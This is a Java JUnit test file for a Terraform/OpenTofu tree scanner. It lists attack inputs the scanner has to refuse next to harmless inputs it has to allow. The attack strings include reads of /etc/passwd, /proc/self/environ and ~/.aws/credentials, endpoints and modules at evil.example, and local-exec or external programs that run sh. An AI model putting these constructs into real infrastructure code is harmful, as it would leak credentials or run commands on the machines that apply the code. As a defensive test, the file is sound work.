package dev.holdpoint.core.scan;

import static dev.holdpoint.core.scan.Scans.LAW;
import static dev.holdpoint.core.scan.Scans.allows;
import static dev.holdpoint.core.scan.Scans.refuses;
import static dev.holdpoint.core.scan.Scans.scan;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Every attack of the design's table that files in a tree alone can make, and its innocent neighbour. */
final class AttackCorpusTest {
    private static final String EMPTY = "locals {}\n";

    @Test
    void a_committed_provider_and_its_lock_are_refused() {
        refuses(
                "scan-engine-folder",
                "main.tf",
                EMPTY,
                ".terraform/providers/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws",
                "#!/bin/sh",
                ".terraform.lock.hcl",
                "");
    }

    @Test
    void a_lock_file_alone_may_stay_and_is_recorded() {
        assertThat(scan(LAW, "main.tf", EMPTY, ".terraform.lock.hcl", "").recorded())
                .extracting(ScanFinding::rule)
                .containsExactly("scan-lock-file");
    }

    @Test
    void a_plugin_mirror_in_the_tree_is_refused() {
        refuses("scan-engine-folder", "main.tf", EMPTY, "terraform.d/plugins/x/y/z/1.0.0/linux_amd64/p", "");
    }

    @ParameterizedTest
    @ValueSource(strings = {".terraformrc", "terraform.rc", ".tofurc", "sub/.TerraformRC", "my.tfrc"})
    void settings_of_the_engine_are_refused(String name) {
        refuses("scan-engine-settings", "main.tf", EMPTY, name, "");
    }

    @ParameterizedTest
    @ValueSource(strings = {"terraform.tfstate", "terraform.tfstate.backup", "errored.tfstate"})
    void a_state_in_the_tree_is_refused(String name) {
        refuses("scan-state-file", "main.tf", EMPTY, name, "{}");
    }

    @Test
    void a_provider_that_the_stack_does_not_list_is_refused() {
        refuses(
                "scan-provider-unlisted",
                "main.tf",
                "terraform {\n required_providers {\n x = { source = \"evil/x\" }\n }\n}\n");
    }

    @Test
    void an_approved_local_name_for_another_source_is_refused() {
        refuses(
                "scan-provider-unlisted",
                "main.tf",
                "terraform {\n required_providers {\n aws = { source = \"evil.example/hashicorp/aws\" }\n }\n}\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "resource \"null_resource\" \"x\" {}\n",
                "data \"null_data_source\" \"x\" {}\n",
                "provider \"null\" {}\n",
                "resource \"aws_vpc\" \"x\" {\n provider = evil\n}\n",
                "resource \"aws_vpc\" \"x\" {\n provider = evil.by[\"aws\"]\n}\n",
                "terraform {\n required_providers {\n aws = \"1.0\"\n evil = \"1.0\"\n }\n}\n",
                "terraform {\n required_providers {\n aws = { (\"source\") = \"evil/aws\" }\n }\n}\n",
                "terraform {\n required_providers {\n aws = { source = \"${\"evil\"}/aws\" }\n }\n}\n",
                "check \"c\" {\n data \"evil_thing\" \"x\" {}\n}\n"
            })
    void an_implied_provider_that_is_not_listed_is_refused(String main) {
        refuses("scan-provider-unlisted", "main.tf", main);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "terraform {\n required_providers {\n a = { source = \"registry.opentofu.org/Hashicorp/AWS\" }\n }\n}\n",
                "resource \"terraform_data\" \"x\" {}\n",
                "resource \"aws_vpc\" \"x\" {\n provider = aws.west\n}\n",
                "locals {\n x = provider::aws::arn_parse(\"a\")\n}\n"
            })
    void a_listed_provider_may_be_used(String main) {
        allows("main.tf", main);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "shared_config_files = [\"./aws.cfg\"]",
                "shared_credentials_files = [\"x\"]",
                "profile = \"evil\"",
                "assume_role_with_web_identity {\n web_identity_token_file = \"/var/run/token\"\n}",
                "assume_role_with_web_identity = { web_identity_token_file = \"/var/run/token\" }",
                "endpoints {\n s3 = \"https://evil.example\"\n}",
                "dynamic \"endpoints\" {\n for_each = [1]\n content {}\n}",
                "ec2_metadata_service_endpoint = \"https://evil.example\"",
                "credentials = file(\"key.json\")",
                "config_path = \"~/.kube/config\"",
                "exec {\n command = \"sh\"\n}",
                "kubernetes = { exec = { command = \"sh\" } }",
                "kubernetes = local.settings",
                "kubernetes = merge({}, { exec = {} })",
                "kubernetes = { (join(\"\", [\"ex\", \"ec\"])) = {} }",
                "http_proxy = \"http://evil.example\""
            })
    void a_provider_that_reads_files_starts_programs_or_calls_elsewhere_is_refused(String setting) {
        refuses("scan-provider-setting", "main.tf", "provider \"aws\" {\n " + setting + "\n}\n");
    }

    @Test
    void an_ordinary_provider_block_is_fine() {
        allows("main.tf", """
                provider "aws" {
                  region              = "eu-west-1"
                  s3_use_path_style   = true
                  allowed_account_ids = ["1"]
                  assume_role {
                    role_arn = "arn:aws:iam::1:role/x"
                  }
                  default_tags {
                    tags = { profile = "web", endpoint = "x" }
                  }
                }
                """);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "backend = \"http\"\n config = { address = \"https://evil.example\" }",
                "backend = \"local\"\n config = { path = \"/etc/passwd\" }",
                "backend = \"s3\"\n config = { bucket = \"team-states\", key = \"other.tfstate\" }",
                "backend = \"s3\"\n config = { bucket = \"team-states\", key = \"network.tfstate\", profile = \"x\" }",
                "backend = \"s3\"\n config = local.c",
                "backend = local.b\n config = { bucket = \"team-states\", key = \"network.tfstate\" }",
                "backend = \"s3\"\n config = { bucket = \"team-states\", key = \"${\"network\"}.tfstate\" }"
            })
    void a_remote_state_that_is_not_listed_is_refused(String body) {
        refuses("scan-remote-state", "main.tf", "data \"terraform_remote_state\" \"x\" {\n " + body + "\n}\n");
    }

    @Test
    void a_listed_remote_state_may_be_read_and_is_recorded() {
        ScanReport report = scan(LAW, "main.tf", """
                data "terraform_remote_state" "x" {
                  backend = "s3"
                  config  = { bucket = "team-states", key = "network.tfstate", region = var.r }
                }
                """);
        assertThat(report.refused()).isEmpty();
        assertThat(Scans.rules(report.recorded())).containsExactly("scan-remote-state");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "file(\"/proc/self/environ\")",
                "core::file(\"/etc/passwd\")",
                "file (\"/etc/passwd\")",
                "(file\n(\"/etc/passwd\"))",
                "file(\"../other-stack/secret\")",
                "file(\"~/.aws/credentials\")",
                "file(\"a/../../b\")",
                "file(\"/etc/${\"passwd\"}\")",
                "file(local.x)",
                "file(\"${path.module}/../x\")",
                "file(\"${path.module}x\")",
                "file(\"${var.dir}/x\")",
                "file([\"/etc/passwd\"]...)",
                "\"a ${\"b ${file(\"/etc/passwd\")}\"}\"",
                "{ \"${file(\"/etc/passwd\")}\" = 1 }",
                "[for path in [{ module = \"/etc\" }] : file(\"${path.module}/passwd\")]",
                "\"%{ for path in [{ module = \"/etc\" }] }${file(\"${path.module}/passwd\")}%{ endfor }\"",
                "filebase64(\"/etc/passwd\")",
                "filesha256(\"/etc/passwd\")",
                "fileexists(\"/etc/passwd\")",
                "fileset(\"/\", \"**\")",
                "fileset(path.module, \"../**\")",
                "fileset(path.module, local.pattern)",
                "templatefile(\"/etc/passwd\", {})",
                "templatefile(\"missing.tftpl\", {})",
                "templatestring(local.x, {})",
                "<<EOT\n${file(\"/etc/passwd\")}\nEOT\n",
                "<<-EOT\n    ${file(\"/etc/passwd\")}\n    EOT\n",
                "x ? file(\"/a\") : 1",
                "a.b[file(\"/a\")].c"
            })
    void a_file_outside_the_tree_is_not_read(String expression) {
        refuses("scan-file-function", "main.tf", "locals {\n x = " + expression + "\n}\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "file(\"cmd.txt\")",
                "file(\"${path.module}/files/a.json\")",
                "file(\"./files//a.json\")",
                "fileset(path.module, \"files/*.json\")",
                "fileset(\"${path.root}/files\", \"**\")",
                "templatefile(\"${path.module}/good.tftpl\", { name = \"x\" })",
                "\"$${file(1)} and a file (see below)\"",
                "\"file(\\\"/etc/passwd\\\")\"",
                "1 # file(\"/etc/passwd\")"
            })
    void a_file_of_the_tree_may_be_read(String expression) {
        allows("main.tf", "locals {\n x = " + expression + "\n}\n", "good.tftpl", "Hello ${name}\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"${file(\"/proc/self/environ\")}", "${file(\"${path.module}/passwd\")}"})
    void a_template_file_cannot_read_what_the_tree_may_not(String template) {
        refuses(
                "scan-file-function",
                "main.tf",
                "locals {\n x = templatefile(\"t.tpl\", { path = { module = \"/etc\" } })\n}\n",
                "t.tpl",
                template);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "override.tf",
                "zzzz_override.tf",
                "a_override.tofu",
                "a_Override.tf",
                "modules/m/override.tofu",
                "holdpoint_override.tf"
            })
    void an_override_file_is_refused(String name) {
        refuses("scan-override-file", "main.tf", EMPTY, name, EMPTY);
    }

    @Test
    void a_file_that_shadows_another_is_refused() {
        refuses("scan-shadowed-file", "x.tf", EMPTY, "x.tofu", EMPTY);
        allows("x.tf", EMPTY, "modules/x.tofu", EMPTY, "y.tofu", EMPTY);
    }

    @Test
    void a_cloud_block_is_refused() {
        refuses("scan-cloud-block", "main.tf", "terraform {\n cloud {\n organization = \"evil\"\n }\n}\n");
    }

    @Test
    void a_plain_backend_may_stay_and_is_recorded() {
        ScanReport report = scan(LAW, "main.tf", "terraform {\n backend \"s3\" {\n bucket = \"x\"\n }\n}\n");
        assertThat(report.refused()).isEmpty();
        assertThat(Scans.rules(report.recorded())).containsExactly("scan-backend");
    }

    @Test
    void an_encryption_block_is_refused() {
        refuses(
                "scan-encryption-block",
                "main.tf",
                "terraform {\n encryption {\n key_provider \"external\" \"x\" {\n command = [\"sh\"]\n }\n }\n}\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "source = local.x",
                "source = \"./${file(\"x\")}\"",
                "source = \"./modules/m\"\n version = var.v",
                "source = \"terraform-aws-modules/vpc/aws\"\n version = \"5.0.0\"",
                "source = \"git::https://evil.example/m.git\"",
                "source = \"/etc\"",
                "source = \"../../outside\"",
                "source = \"./modules/none\"",
                "source = \"..\\\\x\"",
                "x = 1"
            })
    void a_module_from_elsewhere_is_refused(String body) {
        refuses("scan-module-source", "main.tf", "module \"m\" {\n " + body + "\n}\n", "modules/m/main.tf", EMPTY);
    }

    @Test
    void a_module_of_the_tree_may_be_used() {
        allows("live/main.tf", "module \"m\" {\n source = \"../modules/./m/\"\n}\n", "modules/m/main.tf", EMPTY);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "resource \"terraform_data\" \"x\" {\n provisioner \"local-exec\" {\n command = \"sh\"\n }\n}\n",
                "removed {\n from = aws_vpc.x\n provisioner \"local-exec\" {\n command = \"sh\"\n }\n}\n",
                "resource \"terraform_data\" \"x\" {\n connection {\n host = \"evil\"\n }\n}\n",
                "resource \"terraform_data\" \"x\" {\n provisioner \"\\u006cocal-exec\" {}\n}\n",
                "resource \"terraform_data\" \"x\" {\n dynamic \"provisioner\" {\n for_each = [1]\n }\n}\n",
                "action \"aws_lambda_invoke\" \"x\" {}\n",
                "resource \"terraform_data\" \"x\" {\n lifecycle {\n action_trigger {\n events = []\n }\n }\n}\n"
            })
    void programs_that_run_at_apply_need_permission(String main) {
        refuses("scan-provisioner", "main.tf", main);
        ScanLaw asks = new ScanLaw("", LAW.providers(), ScanLaw.Permit.ASK, ScanLaw.Permit.REFUSE, Set.of());
        ScanReport report = scan(asks, "main.tf", main);
        assertThat(report.refused()).isEmpty();
        assertThat(Scans.rules(report.permitted())).containsExactly("scan-provisioner");
    }

    @Test
    void a_permitted_program_that_no_plan_shows_is_asked_about_and_one_that_a_plan_shows_is_left_to_it() {
        ScanLaw asks = new ScanLaw("", LAW.providers(), ScanLaw.Permit.ASK, ScanLaw.Permit.REFUSE, Set.of());
        String provisioner = " provisioner \"local-exec\" {\n command = \"sh\"\n }\n}\n";
        assertThat(scan(asks, "main.tf", "removed {\n from = aws_vpc.x\n" + provisioner)
                        .toJudge())
                .extracting(ScanFinding::weight)
                .containsExactly(ScanFinding.Weight.ASK);
        assertThat(scan(asks, "main.tf", "resource \"aws_vpc\" \"x\" {\n" + provisioner)
                        .toJudge())
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "data \"external\" \"x\" {\n program = [\"sh\"]\n}\n",
                "data external x {}\n",
                "data \"extern\\u0061l\" \"x\" {}\n",
                "check \"c\" {\n data \"external\" \"x\" {}\n}\n",
                "data \"local_command\" \"x\" {}\n"
            })
    void programs_that_run_at_plan_need_permission(String main) {
        refuses("scan-external-program", "main.tf", main);
        ScanLaw asks = new ScanLaw("", LAW.providers(), ScanLaw.Permit.REFUSE, ScanLaw.Permit.ASK, Set.of());
        ScanReport report = scan(asks, "main.tf", main);
        assertThat(report.refused()).isEmpty();
        assertThat(Scans.rules(report.permitted())).containsExactly("scan-external-program");
    }

    @Test
    void a_request_at_plan_time_is_refused() {
        assertThat(Scans.refusals("data \"http\" \"x\" {\n url = \"https://evil.example\"\n}\n"))
                .contains("scan-network-read");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "data \"local_file\" \"x\" {\n filename = \"/etc/passwd\"\n}\n",
                "resource \"aws_s3_object\" \"x\" {\n source = \"/proc/self/environ\"\n}\n",
                "resource \"aws_lambda_function\" \"x\" {\n filename = local.x\n}\n"
            })
    void an_argument_that_reads_a_file_outside_the_tree_is_refused(String main) {
        refuses("scan-file-read", "main.tf", main);
    }

    @Test
    void a_packed_archive_may_be_uploaded() {
        allows("main.tf", "resource \"aws_lambda_function\" \"x\" {\n filename = data.archive_file.x.output_path\n}\n");
    }

    @Test
    void a_function_of_an_unlisted_provider_is_refused() {
        refuses("scan-provider-function", "main.tf", "locals {\n x = provider::evil::run(\"a\")\n}\n");
        refuses("scan-provider-function", "main.tf", "locals {\n x = module::evil::run(\"a\")\n}\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"\uFEFFlocals {}\n", "locals {} # \u202E\n", "locals {} # \u200B\n", "# \u0007\n", "# a\rb\n"})
    void text_that_hides_something_is_refused(String main) {
        refuses("scan-hidden-text", "main.tf", main);
    }

    @ParameterizedTest
    @ValueSource(strings = {"state_store \"x\" {}\n", "x = 1\n", "resource \"aws_vpc\" {}\n", "language {}\n"})
    void a_block_that_the_scan_does_not_know_is_refused(String main) {
        refuses("scan-unknown-block", "main.tf", main);
    }

    @Test
    void a_setting_of_the_engine_that_the_scan_does_not_know_is_refused() {
        refuses("scan-unknown-setting", "main.tf", "terraform {\n state_store \"x\" {}\n}\n");
    }

    @Test
    void what_moves_or_leaves_is_recorded() {
        ScanReport report = scan(LAW, "main.tf", """
                moved {
                  from = aws_vpc.a
                  to   = aws_vpc.b
                }
                import {
                  to = aws_vpc.c
                  id = "x"
                }
                removed {
                  from = aws_vpc.d
                }
                check "c" {
                  assert {
                    condition = true
                  }
                }
                """);
        assertThat(report.refused()).isEmpty();
        assertThat(Scans.rules(report.recorded()))
                .containsExactly("scan-moved", "scan-import", "scan-removed", "scan-check");
    }

    @Test
    void a_finding_names_file_and_line_and_no_value() {
        ScanFinding finding = scan(LAW, "a.tf", "locals {\n x = 1\n\n y = file(\"/etc/hunter2\")\n}\n")
                .refused()
                .getFirst();
        assertThat(finding.file()).isEqualTo("a.tf");
        assertThat(finding.line()).isEqualTo(4);
        assertThat(finding.text()).doesNotContain("hunter2");
    }
}
